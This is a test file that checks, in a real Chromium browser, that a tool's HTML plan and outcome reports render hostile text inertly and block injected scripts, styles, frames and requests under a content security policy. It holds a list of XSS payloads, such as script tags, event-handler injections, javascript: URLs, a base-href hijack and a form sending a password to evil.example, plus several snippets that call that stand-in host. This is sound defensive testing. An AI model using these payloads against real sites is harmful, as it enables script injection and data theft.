/** An HTML report about hostile names: what strangers wrote stays text, and the policy of the file holds in a real browser. */
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { sanitize } from "../../src/model/text/quote.ts";
import { renderOutcomes, renderPlan } from "../../src/report/index.ts";
import type { Effect } from "../../src/model/effect.ts";
import type { Outcome } from "../../src/model/outcome.ts";
import type { ShownChange } from "../../src/model/plan.ts";
import { CHROMIUM, startBrowser, type ReportBrowser } from "../support/browser.ts";
import { change, outcome, outcomes, plan } from "../unit/report/documents.ts";

const PLAIN = { color: false, unmanaged: true };

/** Each of them would set `owned`, open a dialog, load something or hide text, if it were more than text. */
const ATTACKS: readonly string[] = [
  "<script>owned=1</script>",
  "</script><script>owned=1</script>",
  "</style><script>owned=1</script>",
  "</title><script>owned=1</script>",
  "<!--<script>owned=1//-->",
  "--><svg onload=owned=1>",
  "<img src=x onerror=owned=1>",
  '"><img src=//evil.example/x onerror=owned=1>',
  "' autofocus onfocus=owned=1 x='",
  '" open ontoggle="owned=1" x="',
  "` onclick=owned=1 `",
  "<details open ontoggle=owned=1><summary>x</summary></details>",
  "<iframe srcdoc='<script>parent.owned=1</script>'></iframe>",
  '<a href="javascript:owned=1">click</a>',
  "javascript:owned=1",
  "data:text/html,<script>owned=1</script>",
  "<base href=//evil.example/>",
  '<meta http-equiv="refresh" content="0;url=javascript:owned=1">',
  "<form action=//evil.example><input name=password></form>",
  "<template shadowrootmode=open><script>owned=1</script></template>",
  "<math><mtext></form><form><mglyph><style></math><img src onerror=owned=1>",
  "&lt;script&gt;owned=1&lt;/script&gt;",
  "&#60;img src=x onerror=owned=1&#62;",
  "&amp;lt;b&amp;gt; &nbsp &copy &#x3c;",
  "${owned=1} {{constructor.constructor('owned=1')()}}",
  "invoice\u202egnp.exe \u2066hidden\u2069 \u200b\u200f\ufeff",
  "null\u0000byte <scr\u0000ipt>owned=1</scr\u0000ipt>",
  "line\r\nbreak\u2028and\u2029more\tand\u001b[2J",
  "lone \ud800 surrogate",
  "\u{e0041}\u{e0042} tags",
];

/** Every element and attribute that a report has. */
const ELEMENTS =
  /^(html|head|meta|title|style|script|body|a|header|main|section|h[1-3]|p|ul|li|dl|dt|dd|div|span|code|strong|i|details|summary|del|ins|mark|table|thead|tbody|tr|th|td|label|select|option|input|button|data|svg|desc|text|line|path|rect|wbr)$/;
const ATTRIBUTES =
  /^(lang|charset|http-equiv|content|name|class|id|href|aria-[a-z]+|role|tabindex|hidden|open|data-(action|status|kind|scope|filter)|value|type|autocomplete|spellcheck|scope|viewBox|preserveAspectRatio|width|height|x|y|[xy][12]|d[xy]?)$/;

/** All attacks at once, for places that a report has only once. */
const ALL = ATTACKS.join(" ");
const DIAGNOSTICS = ATTACKS.flatMap((attack) => [
  { severity: "error" as const, code: attack, message: attack, hint: attack, address: attack },
  { severity: "warning" as const, code: "x", message: attack, file: attack, pointer: attack },
]);
const PART = {
  url: ALL,
  hash: ALL,
  tool_version: ALL,
  options: { prune: false, only: ATTACKS, rotate: [] },
  unmanaged: ATTACKS.map((attack) => ({ kind: "insight" as const, scope: attack, id: attack, key: attack })),
  diagnostics: DIAGNOSTICS,
};

/** A change in which every text is an attack. */
const hostile = (attack: string): ShownChange =>
  change({
    address: `acme/insights/${attack}`,
    kind: "insight",
    action: "update",
    reason: attack,
    id: attack,
    more: [attack],
    modified: { at: attack, by: attack },
    fields: [
      { path: `/${attack}`, prior: attack, planned: `${attack} ` },
      { path: "/lines", prior: `a\n${attack}`, planned: `b\n${attack} c` },
      { path: "/long", prior: attack.repeat(5), planned: `${attack.repeat(5)} ${attack}` },
      {
        path: "/list",
        prior: { list: [attack], [attack]: 1 },
        planned: { list: [1, attack], [`${attack}2`]: [attack] },
      },
      { path: "/tags", prior: [attack], planned: [`${attack}2`] },
    ],
  });
const CHANGES = ATTACKS.map(hostile).flatMap((one): ShownChange[] => [
  one,
  { ...one, action: "create", blocked: { rule: "prune", lift: one.reason } },
  // Kinds and rules come from a file, too: a forged plan has any.
  {
    ...one,
    action: "delete",
    kind: one.reason as "insight",
    blocked: { rule: one.reason as "prune", lift: `--${one.reason}` },
  },
]);
const OUTCOMES = ATTACKS.map(hostile).flatMap((one): Outcome[] => [
  outcome(one),
  outcome({ ...one, status: "failed", error: { code: one.reason, message: one.reason, hint: one.reason } }),
]);
const EFFECTS = {
  insights: ATTACKS.map((attack, index): Effect => {
    const address = `acme/insights/${attack}`;
    if (index % 4 === 3) return { address, not_calculated: attack };
    const side = { total: index, points: [attack, "2026-10-27", `${attack}2`].map((at, value) => ({ at, value })) };
    return {
      address,
      shape: (["lines", "steps", "rows"] as const)[index % 3] ?? "lines",
      range: { from: attack, to: `${attack}2` },
      interval: { before: attack, after: `${attack}2` },
      series: [attack, `${attack}2`].map((label) => ({ label, before: side, after: side, percent: 0 })),
      series_left_out: 1,
      notes: [attack],
    };
  }),
};
const REPORTS = [
  ["a plan", renderPlan(plan(CHANGES, { ...PART, effects: EFFECTS }), "html", { ...PLAIN, footer: ALL })],
  ["a drift report", renderPlan(plan(CHANGES, { ...PART, effects: EFFECTS, type: "driftline.drift" }), "html", PLAIN)],
  ["the outcomes of an apply", renderOutcomes(outcomes(OUTCOMES, PART), "html", PLAIN)],
] as const;

describe.skipIf(CHROMIUM === undefined)("an HTML report about hostile texts", () => {
  let browser: ReportBrowser;
  beforeAll(async () => {
    browser = await startBrowser();
  });
  afterAll(() => browser.close());

  it.each(REPORTS)("%s shows them as text", async (_name, html) => {
    const { page, requests, console } = await browser.open(html);
    await page.getByRole("button", { name: "Expand all" }).click();
    await page.getByRole("button", { name: "Side by side" }).click();
    await page.getByRole("searchbox").fill("owned");
    const names: readonly string[] = await page.evaluate(
      "[...new Set([...document.querySelectorAll('*')].map((one) => one.localName))]",
    );
    const attributes: readonly string[] = await page.evaluate(
      "[...new Set([...document.querySelectorAll('*')].flatMap((one) => one.getAttributeNames()))]",
    );
    expect(names.filter((name) => !ELEMENTS.test(name))).toEqual([]);
    expect(attributes.filter((name) => !ATTRIBUTES.test(name))).toEqual([]);
    const leads = `document.querySelectorAll('a:not([href^="#"]), area, link').length`;
    const counts = `[document.scripts.length, ${leads}, document.styleSheets.length, typeof owned]`;
    expect(await page.evaluate(counts)).toEqual([1, 0, 1, "undefined"]);
    const texts: readonly string[] = await page.locator("details.change").allTextContents();
    expect(ATTACKS.filter((attack) => !texts.some((text) => text.includes(sanitize(attack))))).toEqual([]);
    const text = (await page.locator("html").textContent()) ?? "";
    expect(text).toContain(sanitize(ALL));
    expect(text).not.toMatch(/(?!\n)[\p{Cc}\p{Cf}\p{Cs}\p{Zl}\p{Zp}]/u);
    expect([requests, console]).toEqual([[], []]);
  });

  it.each([
    ["a script", "const one = document.createElement('script'); one.text = 'owned = 1'; document.body.append(one)"],
    ["a handler", "document.body.setAttribute('onclick', 'owned = 1'); document.body.click()"],
    ["an image", "document.body.insertAdjacentHTML('beforeend', '<img src=https://evil.example/x>')"],
    ["a style", "document.body.insertAdjacentHTML('beforeend', '<style>body { display: none }</style>')"],
    [
      "a style sheet",
      "document.body.insertAdjacentHTML('beforeend', '<link rel=stylesheet href=https://evil.example/x>')",
    ],
    ["a frame", "document.body.insertAdjacentHTML('beforeend', '<iframe src=https://evil.example/x></iframe>')"],
    ["a base", "document.head.insertAdjacentHTML('beforeend', '<base href=https://evil.example/>')"],
    ["a request", "fetch('https://evil.example/x').catch(() => undefined)"],
    [
      "a form",
      "document.body.insertAdjacentHTML('beforeend', '<form action=https://evil.example/x></form>'); document.forms[0].submit()",
    ],
  ])("forbids %s that was put into it", async (_name, code) => {
    const { page, requests } = await browser.open(REPORTS[0][1]);
    // The listener is set from outside, where no policy holds; what it then does is subject to the policy.
    const violations: number = await page.evaluate(
      `new Promise((resolve) => { let count = 0; addEventListener("securitypolicyviolation", () => { count += 1; resolve(count); }); ${code}; })`,
    );
    expect(violations).toBe(1);
    expect(await page.evaluate("typeof owned")).toBe("undefined");
    expect(await page.evaluate("getComputedStyle(document.body).display")).toBe("block");
    expect(requests).toEqual([]);
  });
});
